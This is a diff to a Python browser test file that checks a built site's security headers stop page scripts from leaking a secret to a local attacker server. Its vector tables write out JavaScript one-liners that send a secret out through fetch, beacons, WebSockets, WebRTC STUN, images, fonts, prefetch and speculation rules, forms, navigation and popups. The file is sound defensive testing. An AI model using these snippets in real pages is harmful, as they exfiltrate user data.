@@ -15,29 +15,53 @@ from tests.browser.visiting import READY, open_harness
 
 from wardian_build import serve
 
-#: JavaScript that tries to tell {url} a secret. {udp} is the attacker's UDP port.
-PAGE_VECTORS = {
-    "fetch": "fetch('{url}/fetch?secret', {{ mode: 'no-cors' }})",
-    "beacon": "navigator.sendBeacon('{url}/beacon', 'secret')",
-    "image": "new Image().src = '{url}/image?secret'",
-    "form": """(() => {{ const form = document.createElement('form'); form.action = '{url}/form';
-                 form.method = 'post'; document.body.append(form); form.submit(); }})()""",
-    "navigation": "location.href = '{url}/navigation?secret'",
-    "websocket": "new WebSocket('{url}/socket?secret'.replace('http', 'ws'))",
-    "webrtc": """(async () => {{
-        const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{udp}' }}] }});
-        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); }})()""",
-    "preconnect": """(() => {{ const link = document.createElement('link'); link.rel = 'preconnect';
-                 link.href = '{url}'; document.head.append(link); }})()""",
-    "script": """(() => {{ const script = document.createElement('script');
-                 script.src = '{url}/script?secret'; document.head.append(script); }})()""",
-    "frame": """(() => {{ const frame = document.createElement('iframe'); frame.src = '{url}/frame?secret';
-                 document.body.append(frame); }})()""",
-    "popup": "window.open('{url}/popup?secret')",
-}
 
-#: WebRTC sends nothing from some sandboxes even when allowed; preconnect is a hint that a browser may ignore.
-UNCERTAIN_WITHOUT_POLICY = {"webrtc", "preconnect"}
+def element(tag: str, **properties: str) -> str:
+    """JavaScript that adds an element to the page."""
+    return f"document.body.append(Object.assign(document.createElement({tag!r}), {properties}))"
+
+
+#: JavaScript that tries to tell URL a secret, and leaves the page as it is: all are tried on one page.
+STAYING = {
+    "fetch": "fetch('URL', { mode: 'no-cors' })",
+    "xhr": "(() => { const request = new XMLHttpRequest(); request.open('GET', 'URL'); request.send(); })()",
+    "beacon": "navigator.sendBeacon('URL', 'secret')",
+    "event-source": "new EventSource('URL')",
+    "websocket": "new WebSocket('URL'.replace('http', 'ws'))",
+    # The page removes the interface; `kept` is what another script could have saved before.
+    "webrtc": """(async () => {
+        const peer = new window.kept({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] });
+        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); })()""",
+    "image": element("img", src="URL"),
+    "style": """document.body.append(Object.assign(document.createElement('p'), { textContent: 'x' }));
+        document.body.lastChild.style.backgroundImage = 'url(URL)'""",
+    "font": "new FontFace('x', 'url(URL)').load()",
+    "video": element("video", src="URL", preload="auto"),
+    "object": element("object", data="URL"),
+    "script": element("script", src="URL"),
+    "style-sheet": element("link", rel="stylesheet", href="URL"),
+    "prefetch": element("link", rel="prefetch", href="URL"),
+    "preconnect": element("link", rel="preconnect", href="URL"),
+    "speculation-rules": element(
+        "script",
+        type="speculationrules",
+        textContent='{"prefetch": [{"urls": ["URL"], "eagerness": "immediate"}]}',
+    ),
+    "ping": "Object.assign(document.createElement('a'), { href: '#', ping: 'URL' }).click()",
+    "frame": element("iframe", src="URL"),
+}
+#: These leave the page, or open another one: each on a page of its own.
+LEAVING = {
+    "form": """(() => {
+        const form = Object.assign(document.createElement('form'), { action: 'URL', method: 'post' });
+        document.body.append(form); form.submit(); })()""",
+    "navigation": "location.href = 'URL'",
+    "meta-refresh": element("meta", httpEquiv="refresh", content="0; url=URL"),
+    "popup": "window.open('URL')",
+}
+#: A hint that a browser may ignore, and headless Chromium does: nothing shows that the header stops it.
+UNCERTAIN = {"preconnect"}
+ATTEMPTS = [["staying", *STAYING], *([name] for name in LEAVING)]
 
 
 @pytest.fixture
@@ -54,37 +78,46 @@ def bare_url(site: Path) -> Iterator[str]:
     server.shutdown()
 
 
-def attempt(browser: Browser, url: str, vector: str, attacker: Attacker) -> list[str]:
+def attempt(browser: Browser, url: str, names: list[str], attacker: Attacker) -> list[str]:
+    """What arrives when a page tries these ways."""
     context = browser.new_context()
+    context.add_init_script("window.kept = window.RTCPeerConnection")
     try:
         page = context.new_page()
         page.goto(url, timeout=READY)
         page.wait_for_selector("article.task", timeout=READY)
         attacker.received(wait=0)
-        try_script(page, PAGE_VECTORS[vector].format(url=attacker.url, udp=attacker.udp_port))
-        return attacker.received(wait=2.0)
+        for name in names:
+            if script := {**STAYING, **LEAVING}.get(name):
+                target = f"{attacker.url}/{name}?secret"
+                try_script(page, script.replace("URL", target).replace("UDP", str(attacker.udp_port)))
+        return attacker.received(wait=2.0, enough=len(names))
     finally:
         context.close()
 
 
 def try_script(page: Page, script: str) -> None:
     try:
-        page.evaluate(f"void ({script})")
+        page.evaluate(f"void ({script})" if ";\n" not in script else script)
     except Error:
-        # Refused outright (a removed interface, a navigation that ended the page): also no leak.
+        # Refused outright, or a navigation that ended the page: also no leak.
         page.wait_for_timeout(100)
 
 
-@pytest.mark.parametrize("vector", PAGE_VECTORS)
-def test_nothing_leaves_the_page(browser: Browser, site_url: str, attacker: Attacker, vector: str) -> None:
-    assert attempt(browser, site_url, vector, attacker) == []
-
-
-@pytest.mark.parametrize("vector", [name for name in PAGE_VECTORS if name not in UNCERTAIN_WITHOUT_POLICY])
-def test_the_same_attempt_succeeds_without_the_headers(
-    browser: Browser, bare_url: str, attacker: Attacker, vector: str
+@pytest.mark.parametrize("names", ATTEMPTS, ids=[names[0] for names in ATTEMPTS])
+def test_nothing_leaves_the_page(
+    browser: Browser, site_url: str, attacker: Attacker, names: list[str]
 ) -> None:
-    assert attempt(browser, bare_url, vector, attacker) != []
+    assert attempt(browser, site_url, names, attacker) == []
+
+
+@pytest.mark.parametrize("names", ATTEMPTS, ids=[names[0] for names in ATTEMPTS])
+def test_the_same_attempts_succeed_without_the_headers(
+    browser: Browser, bare_url: str, attacker: Attacker, names: list[str]
+) -> None:
+    arrived = " ".join(attempt(browser, bare_url, names, attacker))
+    for name in set(names) - UNCERTAIN - {"staying"}:
+        assert ("datagram" if name == "webrtc" else f"/{name}?secret") in arrived, name
 
 
 PYTHON_FETCH = """
